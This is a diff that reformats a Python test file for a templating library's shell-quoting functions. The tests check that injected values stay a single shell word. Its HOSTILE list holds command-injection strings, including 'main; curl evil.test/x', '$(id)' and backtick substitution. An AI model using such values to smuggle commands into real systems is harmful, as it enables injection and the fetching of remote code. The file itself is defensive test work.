@@ -12,10 +12,28 @@ from kata.spec import Array, Concat, Const, Input, Item, Join, Record, Ref, Shel
 from kata.templating import MissingValueError, RefusedValueError, Scope, TemplateError, render, render_step
 from kata.templating.shell import quote, unquote
 
-HOSTILE = ["main; curl evil.test/x", "$(id)", "it's", "a b", "`id`", "a\nb", 'a"b', "$'x'", "*", "~", "a&&b", "\\", "ä b"]
+HOSTILE = [
+    "main; curl evil.test/x",
+    "$(id)",
+    "it's",
+    "a b",
+    "`id`",
+    "a\nb",
+    'a"b',
+    "$'x'",
+    "*",
+    "~",
+    "a&&b",
+    "\\",
+    "ä b",
+]
 
 values = st.recursive(
-    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=8),
+    st.none()
+    | st.booleans()
+    | st.integers()
+    | st.floats(allow_nan=False, allow_infinity=False)
+    | st.text(max_size=8),
     lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=4), inner, max_size=3),
     max_leaves=6,
 )
@@ -43,7 +61,9 @@ def test_a_hostile_value_stays_one_shell_word(value):
     """Case B027."""
     if "\x00" in value or value.startswith("-"):
         return
-    command = render(Concat((Const("echo "), ShellWord(Input("x")), Const(" end"))), Scope(inputs={"x": value}))
+    command = render(
+        Concat((Const("echo "), ShellWord(Input("x")), Const(" end"))), Scope(inputs={"x": value})
+    )
     assert shlex.split(command) == ["echo", value, "end"]
 
 
@@ -58,7 +78,10 @@ def test_a_real_shell_reads_back_every_hostile_value(mark, quoting):
     assert done.stdout.decode().split("\0")[:-1] == HOSTILE
 
 
-@given(st.text(st.characters(exclude_characters="\x00"), min_size=1), st.sampled_from(["bare", "single", "double"]))
+@given(
+    st.text(st.characters(exclude_characters="\x00"), min_size=1),
+    st.sampled_from(["bare", "single", "double"]),
+)
 def test_unquoting_is_the_inverse_of_quoting(value, quoting):
     assert unquote(quote(value, quoting), quoting) == value
 
@@ -103,7 +126,9 @@ def test_a_step_is_rendered_to_its_arguments():
     assert render_step(step, Scope(inputs={"p": "x"}, results={1: None})) == {"path": "x", "list": [1, None]}
 
 
-@pytest.mark.parametrize("expression", [Input("gone"), Ref(2), Ref(1, ("gone",)), Ref(1, ("a", 3)), Item(("x",))])
+@pytest.mark.parametrize(
+    "expression", [Input("gone"), Ref(2), Ref(1, ("gone",)), Ref(1, ("a", 3)), Item(("x",))]
+)
 def test_what_is_not_there_is_named(expression):
     with pytest.raises(MissingValueError):
         render(expression, Scope(results={1: {"a": [1]}}))
